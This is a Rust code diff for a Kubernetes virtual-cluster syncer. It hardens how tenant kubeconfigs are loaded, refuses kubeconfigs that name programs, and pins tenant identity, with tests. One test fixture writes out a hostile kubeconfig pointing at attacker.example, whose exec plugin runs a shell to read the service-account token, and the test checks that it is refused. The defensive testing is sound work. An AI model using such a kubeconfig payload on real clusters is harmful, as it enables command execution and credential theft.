@@ -8,7 +8,7 @@ use base64::Engine;
 use crds::{
     VirtualCluster,
     v1alpha1::Adoption,
-    wellknown::{CONDITION_TENANT_SYNCED, SECRET_ADMIN_KUBECONFIG},
+    wellknown::{ANNOTATION_TENANT_IDENTITY, CONDITION_TENANT_SYNCED, SECRET_ADMIN_KUBECONFIG},
 };
 use futures::{Stream, StreamExt};
 use k8s_openapi::{
@@ -107,9 +107,16 @@ fn failure(reason: &'static str, message: impl Into<String>) -> Failure {
     }
 }
 
-/// Reads a tenant's admin kubeconfig from wherever its VirtualCluster says it is.
-pub async fn load_kubeconfig(client: &Client, vc: &VirtualCluster) -> Result<String, Failure> {
-    let vc_namespace = vc.namespace().unwrap_or_default();
+/// Reads a tenant's admin kubeconfig: an adopted tenant's from where its VirtualCluster's spec (or, in adopt
+/// mode, the original annotations) says, a provisioned tenant's from Secret `admin-kubeconfig` in its root
+/// namespace — computed from the VirtualCluster's identity (its cluster key), never read from its status,
+/// which other writers can change.
+pub async fn load_kubeconfig(
+    client: &Client,
+    vc: &VirtualCluster,
+    identity: &TenantIdentity,
+) -> Result<String, Failure> {
+    let vc_namespace = identity.vc_namespace.clone();
     let (namespace, name, key) = match vc.adoption() {
         Some(Adoption::InlineBase64(encoded)) => {
             let bytes = base64::engine::general_purpose::STANDARD
@@ -127,18 +134,11 @@ pub async fn load_kubeconfig(client: &Client, vc: &VirtualCluster) -> Result<Str
                 .map_err(|_| failure("KubeconfigInvalid", "the inline kubeconfig is not UTF-8 text"));
         }
         Some(Adoption::Secret(reference)) => (vc_namespace, reference.name, reference.key),
-        None => {
-            let root = vc
-                .status
-                .as_ref()
-                .and_then(|s| s.cluster_namespace.clone())
-                .unwrap_or_default();
-            (
-                root,
-                SECRET_ADMIN_KUBECONFIG.to_owned(),
-                SECRET_ADMIN_KUBECONFIG.to_owned(),
-            )
-        }
+        None => (
+            identity.cluster_key.clone(),
+            SECRET_ADMIN_KUBECONFIG.to_owned(),
+            SECRET_ADMIN_KUBECONFIG.to_owned(),
+        ),
     };
     let secret = Api::<Secret>::namespaced(client.clone(), &namespace)
         .get_opt(&name)
@@ -187,10 +187,14 @@ pub async fn load_kubeconfig(client: &Client, vc: &VirtualCluster) -> Result<Str
 async fn connect(
     kubeconfig: &str,
     native_root: Option<(&Client, &str)>,
-) -> Result<(Client, Option<String>, String), Failure> {
+) -> Result<(Client, Option<String>, Answer), Failure> {
+    // Data, never a recipe: a kubeconfig that names a file, a program or a proxy builds no client.
     let mut config = config_from_kubeconfig_yaml(kubeconfig, ClientTimeouts::default())
         .await
-        .map_err(|e| failure("KubeconfigInvalid", error_chain(&e)))?;
+        .map_err(|e| match e {
+            vc_runtime::Error::KubeconfigRefused { .. } => failure("KubeconfigRefused", e.to_string()),
+            e => failure("KubeconfigInvalid", error_chain(&e)),
+        })?;
     if let Some((super_client, root)) = native_root {
         let server = config.cluster_url.to_string();
         let reachable = vc_runtime::clients::cluster_ip_url(super_client, &server, root)
@@ -219,13 +223,22 @@ async fn connect(
     });
     let server = config.cluster_url.to_string();
     let client = Client::try_from(config).map_err(|e| failure("KubeconfigInvalid", error_chain(&e)))?;
-    let version = check(&client, &format!("at {server}")).await?;
-    Ok((client, ca_pem, version))
+    let answer = check(&client, &format!("at {server}")).await?;
+    Ok((client, ca_pem, answer))
 }
 
-/// Asks the tenant apiserver for its version (is it there?) and lists one namespace (does it accept the
-/// credentials?): `/version` alone answers anonymous callers too.
-async fn check(client: &Client, which: &str) -> Result<String, Failure> {
+/// What a tenant apiserver answered.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Answer {
+    /// Its `gitVersion`.
+    pub version: String,
+    /// The uid of its `kube-system` namespace: which cluster it is.
+    pub kube_system_uid: String,
+}
+
+/// Asks the tenant apiserver for its version (is it there?) and reads its `kube-system` namespace (does it
+/// accept the credentials? which cluster is it?): `/version` alone answers anonymous callers too.
+async fn check(client: &Client, which: &str) -> Result<Answer, Failure> {
     let refused = |status: &kube::core::Status| {
         failure(
             "TenantUnauthorized",
@@ -252,13 +265,76 @@ async fn check(client: &Client, which: &str) -> Result<String, Failure> {
         Err(error) => return Err(unreachable(&error)),
     };
     let namespaces: Api<Namespace> = Api::all(client.clone());
-    match namespaces
-        .list_metadata(&kube::api::ListParams::default().limit(1))
-        .await
-    {
-        Ok(_) => Ok(version),
+    match namespaces.get_opt("kube-system").await {
+        Ok(Some(namespace)) => Ok(Answer {
+            version,
+            kube_system_uid: namespace.uid().unwrap_or_default(),
+        }),
+        Ok(None) => Err(failure(
+            "TenantUnreachable",
+            format!("the tenant apiserver {which} has no kube-system namespace (yet)"),
+        )),
         Err(kube::Error::Api(status)) if status.code == 401 || status.code == 403 => Err(refused(&status)),
         Err(error) => Err(unreachable(&error)),
+    }
+}
+
+/// Reason of the condition when the tenant is another cluster than the one first synced.
+pub const REASON_IDENTITY_CHANGED: &str = "TenantIdentityChanged";
+
+/// The tenant identity the VirtualCluster was first synced with (the uid of the tenant's `kube-system`).
+fn pinned_identity(vc: &VirtualCluster) -> Option<&str> {
+    vc.annotations()
+        .get(ANNOTATION_TENANT_IDENTITY)
+        .map(String::as_str)
+        .filter(|uid| !uid.is_empty())
+}
+
+fn identity_changed(vc: &VirtualCluster, pinned: &str, found: &str) -> Failure {
+    failure(
+        REASON_IDENTITY_CHANGED,
+        format!(
+            "the tenant apiserver's kube-system namespace has uid {found}, but this VirtualCluster was first synced with a tenant whose kube-system has uid {pinned} (annotation {ANNOTATION_TENANT_IDENTITY}): its kubeconfig now leads to another cluster, or the tenant's etcd was replaced. Nothing is synced, and nothing the earlier tenant has in the super cluster is deleted. If the change is deliberate, remove the annotation: kubectl -n {} annotate virtualcluster {} {ANNOTATION_TENANT_IDENTITY}-",
+            vc.namespace().unwrap_or_default(),
+            vc.name_any()
+        ),
+    )
+}
+
+/// Compares the tenant with the identity recorded on the VirtualCluster, recording it when there is none
+/// (the first attachment, or after a platform admin removed it to accept a new tenant).
+async fn pin_identity(ctx: &Context, vc: &VirtualCluster, found: &str) -> Result<(), Failure> {
+    if let Some(pinned) = pinned_identity(vc) {
+        return match pinned == found {
+            true => Ok(()),
+            false => Err(identity_changed(vc, pinned, found)),
+        };
+    }
+    // Only onto the VirtualCluster as it was read: if it changed meanwhile, its update brings this back.
+    let patch = serde_json::json!({
+        "metadata": {
+            "resourceVersion": vc.resource_version(),
+            "annotations": { ANNOTATION_TENANT_IDENTITY: found },
+        }
+    });
+    let api: Api<VirtualCluster> =
+        Api::namespaced(ctx.super_client.clone(), &vc.namespace().unwrap_or_default());
+    let params = PatchParams {
+        field_manager: Some(crds::wellknown::FIELD_MANAGER_SYNCER.to_owned()),
+        ..Default::default()
+    };
+    match api.patch(&vc.name_any(), &params, &Patch::Merge(&patch)).await {
+        Ok(_) => {
+            tracing::info!(vc = %format!("{}/{}", vc.namespace().unwrap_or_default(), vc.name_any()), kube_system_uid = found, "tenant identity recorded");
+            Ok(())
+        }
+        Err(error) => Err(failure(
+            "TenantIdentityNotRecorded",
+            format!(
+                "recording the tenant's identity in annotation {ANNOTATION_TENANT_IDENTITY}: {}",
+                error_chain(&error)
+            ),
+        )),
     }
 }
 
@@ -460,7 +536,7 @@ async fn attach_or_check(
     attached: &mut Option<(Arc<Tenant>, String)>,
     recovering: bool,
 ) -> Result<String, Failure> {
-    let kubeconfig = load_kubeconfig(&ctx.super_client, vc).await?;
+    let kubeconfig = load_kubeconfig(&ctx.super_client, vc, identity).await?;
     let print = fingerprint(&kubeconfig);
     let settings = TenantSettings::of(vc);
     if let Some((tenant, current)) = attached.as_ref()
@@ -469,9 +545,17 @@ async fn attach_or_check(
         update_settings(ctx, tenant, settings.clone());
         // During an outage the tenant stays attached and its watches retry on their own, with a backoff
         // that may have grown long; once the apiserver answers again, fresh watches catch up at once.
-        let version = check(&tenant.client, &format!("of {}", identity.vc_ref())).await?;
+        let answer = check(&tenant.client, &format!("of {}", identity.vc_ref())).await?;
+        if answer.kube_system_uid != tenant.kube_system_uid {
+            // Same kubeconfig, another cluster (its etcd was replaced): stop before anything is deleted.
+            // The tenant's own check already holds its work (see Tenant::is_ready).
+            let changed = identity_changed(vc, &tenant.kube_system_uid, &answer.kube_system_uid);
+            attached.take();
+            detach(ctx, &identity.cluster_key);
+            return Err(changed);
+        }
         if !recovering {
-            return Ok(version);
+            return Ok(answer.version);
         }
         tracing::info!(vc = %identity.vc_ref(), "tenant apiserver answers again; restarting its watches");
     }
@@ -479,7 +563,16 @@ async fn attach_or_check(
         .adoption()
         .is_none()
         .then_some((&ctx.super_client, identity.cluster_key.as_str()));
-    let (client, ca_pem, version) = connect(&kubeconfig, native_root).await?;
+    let (client, ca_pem, answer) = connect(&kubeconfig, native_root).await?;
+    if let Err(failed) = pin_identity(ctx, vc, &answer.kube_system_uid).await {
+        // A kubeconfig that now leads elsewhere: whatever was attached (the earlier cluster, through the
+        // earlier kubeconfig) stops too, so that the tenant is not synced from two places in turn.
+        if failed.reason == REASON_IDENTITY_CHANGED && attached.take().is_some() {
+            detach(ctx, &identity.cluster_key);
+        }
+        return Err(failed);
+    }
+    let version = answer.version.clone();
     if attached.take().is_some() {
         detach(ctx, &identity.cluster_key);
         // Detaching forgot the tenant's usage; its running pods send no events that would count them.
@@ -492,6 +585,7 @@ async fn attach_or_check(
         identity.clone(),
         client,
         ca_pem,
+        answer.kube_system_uid,
         settings,
         &ctx.queues,
         ctx.config.sync_ingresses,
@@ -710,6 +804,10 @@ mod tests {
 
     const KUBECONFIG: &str = "apiVersion: v1\nkind: Config\n";
 
+    fn kube_system(uid: &str) -> serde_json::Value {
+        json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "kube-system", "uid": uid}})
+    }
+
     /// Answers the reads of one `attach_or_check` of an attached tenant: its kubeconfig Secret (super),
     /// then `/version` and a namespace list (tenant).
     async fn answer_check(supers: &mut testing::ApiServer, tenants: &mut testing::ApiServer) {
@@ -729,10 +827,139 @@ mod tests {
             &json!({"major": "1", "minor": "25", "gitVersion": "v1.25.9", "gitCommit": "x", "gitTreeState": "clean",
                 "buildDate": "2023-04-12T12:00:00Z", "goVersion": "go1.19", "compiler": "gc", "platform": "linux/amd64"}),
         );
-        tenants.expect("GET", "/api/v1/namespaces?").await.respond(
-            200,
-            &json!({"apiVersion": "meta.k8s.io/v1", "kind": "PartialObjectMetadataList", "metadata": {}, "items": []}),
+        tenants
+            .expect("GET", "/api/v1/namespaces/kube-system")
+            .await
+            .respond(200, &kube_system("kube-system-uid"));
+    }
+
+    #[tokio::test]
+    async fn a_provisioned_tenants_kubeconfig_is_read_where_its_identity_says_not_where_its_status_says() {
+        let (super_client, mut supers) = testing::mock();
+        let mut vc = provisioned(Some("Running"), None);
+        // Whoever can write the status points it at another tenant's root namespace.
+        vc.status.as_mut().expect("status").cluster_namespace = Some("victim-root".into());
+        let identity = testing::identity();
+        let (loaded, ()) = tokio::join!(load_kubeconfig(&super_client, &vc, &identity), async {
+            supers
+                .expect(
+                    "GET",
+                    "/api/v1/namespaces/team-abc123-vc/secrets/admin-kubeconfig",
+                )
+                .await
+                .respond(
+                    200,
+                    &json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "admin-kubeconfig"},
+                        "data": {"admin-kubeconfig": base64::engine::general_purpose::STANDARD.encode(KUBECONFIG)}}),
+                );
+        });
+        assert_eq!(loaded.expect("loaded"), KUBECONFIG);
+        supers.idle().await;
+    }
+
+    #[tokio::test]
+    async fn a_kubeconfig_that_runs_a_program_is_refused_before_any_request() {
+        let (super_client, mut supers) = testing::mock();
+        let (ctx, _) = testing::context(super_client);
+        let hostile = "apiVersion: v1
+kind: Config
+clusters: [{name: c, cluster: {server: 'https://attacker.example:6443'}}]
+users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'cat /var/run/secrets/kubernetes.io/serviceaccount/token']}}}]
+contexts: [{name: x, context: {cluster: c, user: u}}]
+current-context: x
+";
+        let vc: VirtualCluster = from_json(json!({
+            "apiVersion": "tenancy.x-k8s.io/v1alpha1", "kind": "VirtualCluster",
+            "metadata": {"name": "vc", "namespace": "team", "uid": "vc-uid", "annotations": {
+                crds::wellknown::ANNOTATION_ADMIN_KUBECONFIG: base64::engine::general_purpose::STANDARD.encode(hostile)}},
+            "spec": {"clusterVersionName": "v1"},
+        }));
+        let mut attached = None;
+        let failed = attach_or_check(&ctx, &vc, &testing::identity(), &mut attached, false)
+            .await
+            .expect_err("refused");
+        assert_eq!(failed.reason, "KubeconfigRefused");
+        assert!(failed.message.contains("users[u].exec"), "{}", failed.message);
+        assert!(attached.is_none() && ctx.tenants.all().is_empty());
+        supers.idle().await;
+    }
+
+    #[tokio::test]
+    async fn the_tenant_identity_is_recorded_once_and_a_different_one_is_refused() {
+        let (super_client, mut supers) = testing::mock();
+        let (ctx, _) = testing::context(super_client);
+        let mut vc = provisioned(Some("Running"), None);
+        vc.metadata.resource_version = Some("41".into());
+        let (pinned, ()) = tokio::join!(pin_identity(&ctx, &vc, "uid-1"), async {
+            let patch = supers
+                .expect(
+                    "PATCH",
+                    "/apis/tenancy.x-k8s.io/v1alpha1/namespaces/team/virtualclusters/vc?",
+                )
+                .await;
+            assert_eq!(
+                patch.body,
+                json!({"metadata": {"resourceVersion": "41", "annotations": {ANNOTATION_TENANT_IDENTITY: "uid-1"}}})
+            );
+            patch.respond(200, &serde_json::to_value(&vc).expect("json"));
+        });
+        pinned.expect("recorded");
+        vc.metadata.annotations = Some([(ANNOTATION_TENANT_IDENTITY.to_owned(), "uid-1".to_owned())].into());
+        pin_identity(&ctx, &vc, "uid-1").await.expect("the same cluster");
+        let failed = pin_identity(&ctx, &vc, "uid-2")
+            .await
+            .expect_err("another cluster");
+        assert_eq!(failed.reason, REASON_IDENTITY_CHANGED);
+        assert!(failed.message.contains("uid-1") && failed.message.contains("uid-2"));
+        assert!(
+            failed.message.contains(&format!("{ANNOTATION_TENANT_IDENTITY}-")),
+            "{}",
+            failed.message
         );
+        supers.idle().await;
+    }
+
+    #[tokio::test]
+    async fn an_attached_tenant_that_turns_into_another_cluster_is_detached() {
+        let (super_client, mut supers) = testing::mock();
+        let (tenant_client, mut tenants) = testing::mock();
+        let (ctx, _) = testing::context(super_client);
+        let vc = provisioned(Some("Running"), Some("True"));
+        let (tenant, _) = testing::tenant(&ctx, tenant_client, TenantSettings::of(&vc));
+        let identity = testing::identity();
+        let mut attached = Some((tenant.clone(), fingerprint(KUBECONFIG)));
+        // Same kubeconfig, same address; its etcd was wiped: kube-system is new.
+        let (result, ()) = tokio::join!(
+            attach_or_check(&ctx, &vc, &identity, &mut attached, false),
+            async {
+                supers
+                    .expect(
+                        "GET",
+                        "/api/v1/namespaces/team-abc123-vc/secrets/admin-kubeconfig",
+                    )
+                    .await
+                    .respond(
+                        200,
+                        &json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "admin-kubeconfig"},
+                            "data": {"admin-kubeconfig": base64::engine::general_purpose::STANDARD.encode(KUBECONFIG)}}),
+                    );
+                tenants.expect("GET", "/version").await.respond(
+                    200,
+                    &json!({"major": "1", "minor": "25", "gitVersion": "v1.25.9", "gitCommit": "x", "gitTreeState": "clean",
+                        "buildDate": "2023-04-12T12:00:00Z", "goVersion": "go1.19", "compiler": "gc", "platform": "linux/amd64"}),
+                );
+                tenants
+                    .expect("GET", "/api/v1/namespaces/kube-system")
+                    .await
+                    .respond(200, &kube_system("a-new-uid"));
+            }
+        );
+        let failed = result.expect_err("refused");
+        assert_eq!(failed.reason, REASON_IDENTITY_CHANGED);
+        assert!(attached.is_none());
+        assert!(ctx.tenants.get(&identity.cluster_key).is_none(), "detached");
+        supers.idle().await;
+        tenants.idle().await;
     }
 
     #[tokio::test]
